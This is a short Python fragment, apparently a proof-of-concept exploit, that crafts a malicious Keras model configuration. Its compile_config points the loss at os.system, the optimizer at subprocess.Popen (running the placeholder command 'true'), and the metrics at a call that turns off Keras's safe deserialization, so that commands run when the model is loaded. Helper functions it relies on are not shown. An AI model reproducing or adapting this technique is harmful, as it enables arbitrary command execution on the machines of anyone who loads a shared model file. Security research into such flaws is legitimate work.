def change(config):
    config["compile_config"] = {
        "loss": function("os", "system"),
        "optimizer": {"module": "subprocess", "class_name": "Popen", "config": {"args": ["true"]}},
        "metrics": [function("keras.config", "enable_unsafe_deserialization")],
    }


def build_model():
    return handing_in(reconfigured(change))
